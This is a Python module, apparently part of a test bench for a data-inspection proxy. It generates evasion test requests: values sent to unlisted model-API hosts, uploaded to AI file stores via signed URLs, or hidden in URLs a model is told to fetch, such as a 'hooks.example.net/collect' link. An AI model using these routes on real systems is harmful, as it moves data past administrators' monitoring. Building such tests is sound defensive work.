"""Requests to hosts that are no listed service: interfaces nobody listed, gateways of one's own, stores of files.

Enters: a random generator and a value. Leaves: a request. Whose it is decide the catalogue and the settings, as in the
proxy: hosts below `INSPECTED` are those that an administrator has named to be looked into.
"""

import json
from dataclasses import replace
from random import Random

from bench.evasion.uploads import document
from bench.evasion.values import Value
from bench.evasion.wires import Sent, messages, multipart

INSPECTED = "gateway.example"
STORES = (
    "files.oaiusercontent.com",
    "ppl-ai-file-upload.s3.amazonaws.com",
    "copilotprodattachments.blob.core.windows.net",
    "qwen-webui-prod.oss-accelerate.aliyuncs.com",
)


def unlisted(rng: Random, value: Value) -> Sent:
    """Ask a site that nobody listed, in the form of a model's interface."""
    host = rng.choice(("chat", "one-api", "mirror")) + f".{INSPECTED}"
    text = value.sentence
    gemini = {"contents": [{"role": "user", "parts": [{"text": text}]}]}
    claude = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": text}]}
    path, body = rng.choice(
        (
            ("/v1/chat/completions", messages(text)),
            ("/openai/v1/chat/completions?key=1", messages(text)),
            ("/api/chat", messages(text, stream=True)),
            ("/api/generate", json.dumps({"model": "m", "prompt": text}).encode()),
            ("/v1/messages", json.dumps(claude).encode()),
            ("/v1beta/models/g:streamGenerateContent?alt=sse", json.dumps(gemini).encode()),
            ("/v1/embeddings", json.dumps({"input": [text]}).encode()),
            ("/backend-api/conversation", messages(text)),
        )
    )
    return Sent(body, path, host=host)


def gateway(rng: Random, value: Value) -> Sent:
    """Ask a gateway of one's own: the same, on hosts of which every other one was never named."""
    sent = unlisted(rng, value)
    return replace(sent, host=rng.choice((sent.host, "relay.partner.example")))


def store(rng: Random, value: Value) -> Sent:
    """Send a file to the store of a service, as an address signed for it allows."""
    text = value.sentence.encode()
    host, key = rng.choice(STORES), f"/uploads/{rng.randrange(1 << 40):x}?X-Amz-Signature={rng.randrange(1 << 80):x}"
    how = rng.randrange(3)
    if how == 0:
        return Sent(text, key, (("content-type", "text/plain"),), "PUT", host=host)
    if how == 1:
        kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        return Sent(document(value.sentence), key, (("content-type", kind),), "PUT", host=host)
    head = 'Content-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain'
    body, kinds = multipart(('Content-Disposition: form-data; name="key"', b"a.txt"), (head, text))
    return Sent(body, key, kinds, host=host)


def relay(rng: Random, value: Value) -> Sent:
    """Have a model fetch what a relay holds: the value is in the address that it is told to read."""
    asked = rng.choice(
        (
            f"Read https://translate.google.com/translate?u=https://pad.example/p?x={value.text} and summarise",
            f"请打开 https://gist.example.com/raw/{value.text} 并总结",
            f"fetch https://hooks.example.net/collect?d={value.text}&n=1",
        )
    )
    return Sent(messages(asked))
